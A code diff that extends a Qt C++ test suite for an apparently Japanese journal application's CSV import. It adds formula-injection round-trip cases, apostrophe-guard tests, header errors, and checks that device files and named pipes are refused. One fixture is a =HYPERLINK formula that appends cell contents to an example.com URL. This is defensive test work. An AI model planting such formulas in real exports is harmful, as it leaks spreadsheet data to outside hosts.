@@ -8,7 +8,12 @@
 
 #include "support/sqlfile.h"
 
+#include <QElapsedTimer>
 #include <QProcess>
+
+#if defined(Q_OS_LINUX)
+#include <sys/stat.h>
+#endif
 
 using namespace exporttest;
 using namespace Qt::StringLiterals;
@@ -97,6 +102,9 @@ private slots:
     void failedWriteLeavesJournalAsItWas_data();
     void failedWriteLeavesJournalAsItWas();
     void commandLine();
+    void formulaGuardDroppedOnce_data();
+    void formulaGuardDroppedOnce();
+    void hostileFilesAreRefusedAtOnce();
 };
 
 void TestCsvImport::exportReadsBackExactly_data()
@@ -117,7 +125,18 @@ void TestCsvImport::exportReadsBackExactly()
         {u"2007-04-07"_s, {}, std::nullopt},
         {u"2007-04-08"_s, {1}, u"\n前後に改行\rと CR\n"_s},
         {u"2099-12-31"_s, {std::nullopt, 2}, u"  字下げ"_s},
+        // Texts a spreadsheet would take for formulas, and apostrophes before them.
+        {u"2008-01-01"_s, {-1000}, u"=HYPERLINK(\"http://example.com/?x=\"&A1,\"詳細\")"_s},
+        {u"2008-01-02"_s, {}, u"'=1"_s},
+        {u"2008-01-03"_s, {}, u"''-1"_s},
+        {u"2008-01-04"_s, {}, u"'"_s},
+        {u"2008-01-05"_s, {}, u"'abc"_s},
+        {u"2008-01-06"_s, {}, u"\t@"_s},
+        {u"2008-01-07"_s, {}, u"\r+"_s},
+        {u"2008-01-08"_s, {}, u"'\n+"_s},
+        {u"2008-01-09"_s, {}, u"\n=1"_s},
     }));
+    constexpr qint64 kDays = 15;
     const QString path = source.file();
     common::NoProgress quiet;
     const exchange::Exported exported =
@@ -131,18 +150,18 @@ void TestCsvImport::exportReadsBackExactly()
     QVERIFY(preview.encodingDetected);
     QCOMPARE(preview.encoding, encoding);
     QCOMPARE(describe(preview.refused), QStringList{});
-    QCOMPARE(preview.newDays, 6);
+    QCOMPARE(preview.newDays, kDays);
     QCOMPARE(preview.existingDays, 0);
 
     const exchange::Imported imported = target.import(preview);
     QVERIFY2(!imported.failure, qPrintable(imported.failure.value_or(QString())));
-    QCOMPARE(imported.added, 6);
+    QCOMPARE(imported.added, kDays);
     QCOMPARE(describe(recordsOf(*target.store)), describe(recordsOf(*source.store)));
 
     // Judged again, every day now has its record.
     const exchange::ImportPreview again = exchange::previewCsvImport(*target.store, path, encoding, quiet);
     QCOMPARE(again.newDays, 0);
-    QCOMPARE(again.existingDays, 6);
+    QCOMPARE(again.existingDays, kDays);
 }
 
 void TestCsvImport::characterCodeFoundOrAsAsked()
@@ -208,6 +227,13 @@ void TestCsvImport::wholeFileRefused_data()
     QTest::newRow("empty") << QByteArray("\r\n\r\n") << u"何も書かれていません"_s;
     QTest::newRow("header not closed") << QByteArray("日付,\"日誌\n") << u"見出しを読めません"_s;
     QTest::newRow("too large") << QByteArray() << u"256 MiB"_s;
+    QTest::newRow("no header, a record first")
+        << QByteArray("2007/04/05,0,0,0,0,a\n2007/04/06,0,0,0,0,b\n")
+        << u"1 行目は見出しではなく記録のようです（「2007/04/05」）。ファイルの最初の行には "
+           u"日付,売上額,仕入額,入金額,出金額,"
+           u"日誌 のように列の名前を書いてください。"_s;
+    QTest::newRow("no header, numbers first")
+        << QByteArray("\n\nメモ,0,0\n1,2,3\n") << u"3 行目は見出しではなく記録のようです（「0」）。"_s;
 }
 
 void TestCsvImport::wholeFileRefused()
@@ -357,6 +383,65 @@ void TestCsvImport::failedWriteLeavesJournalAsItWas()
     const exchange::Imported imported = target.import(preview, replace);
     QVERIFY2(imported.failure.value_or(QString()).startsWith(reason), qPrintable(imported.failure.value_or(u"-"_s)));
     QCOMPARE(testsupport::rowsOf(target.data.mainPath(), u"業務日誌"_s), before);
+}
+
+void TestCsvImport::formulaGuardDroppedOnce_data()
+{
+    QTest::addColumn<QByteArray>("field");
+    QTest::addColumn<QString>("text");
+    QTest::newRow("the export's guard") << QByteArray("'=1+2") << u"=1+2"_s;
+    QTest::newRow("before a tab, quoted") << QByteArray("\"'\t@\"") << u"\t@"_s;
+    QTest::newRow("one of two") << QByteArray("''-1") << u"'-1"_s;
+    QTest::newRow("a formula as Excel saves it") << QByteArray("=1+2") << u"=1+2"_s;
+    QTest::newRow("an apostrophe before a letter") << QByteArray("'abc") << u"'abc"_s;
+    QTest::newRow("an apostrophe alone") << QByteArray("'") << u"'"_s;
+    QTest::newRow("after a blank") << QByteArray(" '=1") << u" '=1"_s;
+}
+
+void TestCsvImport::formulaGuardDroppedOnce()
+{
+    QFETCH(QByteArray, field);
+    QFETCH(QString, text);
+    Target target;
+    QVERIFY(target.open({}));
+    // Amounts are never unguarded: an apostrophe there is no number.
+    const exchange::ImportPreview preview =
+        target.preview("日付,売上額,日誌\n2007/04/05,-1000," + field + "\n2007/04/06,'-1000,a\n");
+    QCOMPARE(describe(preview.records), QStringList{u"2007-04-05|-1000|none|none|none|[%1]"_s.arg(text)});
+    QCOMPARE(describe(preview.refused), QStringList{u"3 売上額: 金額として読めません（「'-1000」）。"_s});
+}
+
+void TestCsvImport::hostileFilesAreRefusedAtOnce()
+{
+#if !defined(Q_OS_LINUX)
+    QSKIP("devices and named pipes are Linux ones here");
+#else
+    Installed zephra;
+    QVERIFY(zephra.make({}));
+    const QString pipe = zephra.path(u"pipe.csv"_s);
+    QVERIFY(::mkfifo(QFile::encodeName(pipe).constData(), 0600) == 0);
+    // A writer that never stops once a reader opens the pipe.
+    QProcess writer;
+    writer.start(u"sh"_s, {u"-c"_s, u"exec yes 2007/04/05,1,,,,x > \"$0\""_s, pipe});
+    QVERIFY(writer.waitForStarted());
+    const auto stop = qScopeGuard([&] {
+        writer.kill();
+        writer.waitForFinished();
+    });
+
+    for (const QString &path : {u"/dev/zero"_s, u"/dev/urandom"_s, pipe}) {
+        QElapsedTimer clock;
+        clock.start();
+        const Outcome refused = zephra.run({path, u"--preview"_s}, u"--import-csv"_s);
+        QCOMPARE(refused.exitCode, 1);
+        QCOMPARE(refused.err,
+                 u"「%1」は普通のファイルではありません（デバイスや名前付きパイプなど）。取り込めるのは普通の"
+                 u"ファイルだけです。\n何も取り込んでいません。\n"_s.arg(path));
+        QVERIFY2(clock.elapsed() < 10'000, qPrintable(path));
+    }
+    // Nobody read the pipe: its writer is still waiting for a reader.
+    QCOMPARE(writer.state(), QProcess::Running);
+#endif
 }
 
 void TestCsvImport::commandLine()
